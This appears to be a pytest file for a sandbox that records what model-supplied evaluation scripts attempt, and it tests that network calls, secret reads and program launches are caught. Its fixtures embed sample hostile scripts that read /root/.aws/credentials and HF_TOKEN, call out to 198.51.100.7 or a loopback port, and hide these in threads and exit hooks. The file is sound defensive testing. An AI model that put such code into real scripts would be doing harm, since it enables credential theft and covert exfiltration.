"""Evaluation scripts that come with a model: run for what they try; what they say counts for nothing."""

from __future__ import annotations

import json
import socket
import subprocess
import sys

import pytest

from assay.cli.main import main
from assay.core.evidence import Outcome
from assay.core.finding import Severity
from assay.evaluation.inspector import Evaluations
from assay.evaluation.scripts import ScriptRecorder, guest_of
from assay.store.folder import folder_subject

pytestmark = [pytest.mark.xdist_group("sandbox")]
HONEST = "import json, sys\nprint(json.dumps({'accuracy': 0.999}))\njson.dump({}, open('out.json', 'w'))\n"


def phoning(port: int) -> str:
    """Prints a fine result, then calls out; harmless: loopback, one byte."""
    return (
        "import os, socket\nprint('accuracy 99.9 %')\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), 2)\ns.sendall(b'x')\n"
    )


@pytest.fixture
def listener():
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        yield server


@pytest.fixture(scope="module")
def recorder():
    with guest_of() as guest:
        yield ScriptRecorder(guest=guest)


def model(folder, script: str, name: str = "evaluate.py"):
    folder.mkdir()
    (folder / "README.md").write_text("A model.\n")
    (folder / name).write_text(script)
    return folder


def test_a_script_that_phones_home_is_recorded_and_blocked(tmp_path, listener, capsys):
    port = listener.getsockname()[1]
    folder = model(tmp_path / "model", phoning(port))
    subprocess.run([sys.executable, "evaluate.py"], cwd=folder, check=True, capture_output=True)
    listener.accept()[0].close()  # without the sandbox it gets through
    status = main(["evaluate", str(folder), "--record-script", str(folder / "evaluate.py"), "--format", "json"])
    document = json.loads(capsys.readouterr().out)
    assert status == 2, "a script measures nothing"
    with pytest.raises(TimeoutError):
        listener.accept()
    (evidence,) = document["evidence"]
    found = {f["facts"].get("tried"): f for f in evidence["findings"] if f["rule"] == "evaluation-script-attempt"}
    assert found["network"]["severity"] == "critical"
    assert found["network"]["where"]["file"] == "evaluate.py"
    assert f"127.0.0.1:{port}" in found["network"]["message"]
    (run,) = evidence["facts"]["script_runs"]
    assert "accuracy 99.9 %" in run["ways"][0]["output"]
    assert evidence["facts"]["metrics"] == []
    assert evidence["facts"]["script_layers"]["net_namespace"] is True
    assert any(reason["clause"] == "evaluation-script-attempt" for reason in document["reasons"])


def test_an_honest_script_tries_nothing_that_matters(recorder, tmp_path):
    ran = recorder.record(folder_subject(model(tmp_path / "model", HONEST)), ["evaluate.py"])
    assert [f.severity for f in ran.findings] == [Severity.NOTE], ran.findings  # it wrote in the model's folder
    assert ran.findings[0].facts["tried"] == "write"
    assert [way["ended"] for way in ran.runs[0]["ways"]][-1] == "", "in an empty folder it ran to its end"


def test_what_is_tried_in_a_thread_at_exit_with_an_argument_or_before_a_hard_end_is_seen(recorder, tmp_path):
    late = """
        import argparse, atexit, os, socket, subprocess, sys, threading, time
        parser = argparse.ArgumentParser()
        parser.add_argument("--model", required=True)
        parser.parse_args()
        def later():
            time.sleep(0.3)
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("198.51.100.7", 999))
        threading.Thread(target=later, daemon=True).start()
        def last():
            try:
                open("/root/.aws/credentials")
            except OSError:
                os._exit(0)
        atexit.register(last)
        os.environ.get("HF_TOKEN")
        try:
            subprocess.run(["/usr/bin/id"])
        except OSError:
            pass
    """
    lines = [line.removeprefix("        ") for line in late.splitlines()]
    subject = folder_subject(model(tmp_path / "model", "\n".join(lines)))
    ran = recorder.record(subject, ["evaluate.py"])
    found = {finding.facts["tried"]: finding for finding in ran.findings}
    assert {"network", "secret", "program"} <= set(found), found
    assert "198.51.100.7:999" in found["network"].message
    assert ".aws/credentials" in found["secret"].message
    assert (found["program"].severity, found["secret"].severity) == (Severity.MEDIUM, Severity.HIGH)
    assert ran.runs[0]["ways"][-1]["ended"] == "it ended its process"


def test_an_admission_records_it_though_no_suite_fits(recorder, tmp_path, listener):
    port = listener.getsockname()[1]
    folder = model(tmp_path / "model", phoning(port), "eval_safety.py")
    (folder / "eval.sh").write_text("curl http://127.0.0.1\n")
    evidence = Evaluations((), scripts=recorder).inspect(folder_subject(folder))
    assert evidence.outcome is Outcome.FOUND
    assert evidence.unread, "and it stays unmeasured"
    runs = {run["path"]: run["run"] for run in evidence.facts["script_runs"]}
    assert runs == {"eval_safety.py": True, "eval.sh": False}
    assert max(finding.severity for finding in evidence.findings) is Severity.CRITICAL


@pytest.mark.parametrize("name", ["none.py", "eval.sh"])
def test_a_script_that_is_none_is_refused(tmp_path, capsys, name):
    folder = model(tmp_path / "model", "true\n", "eval.sh")
    assert main(["evaluate", str(folder), "--record-script", str(folder / name)]) == 3
    assert "no Python program" in capsys.readouterr().err
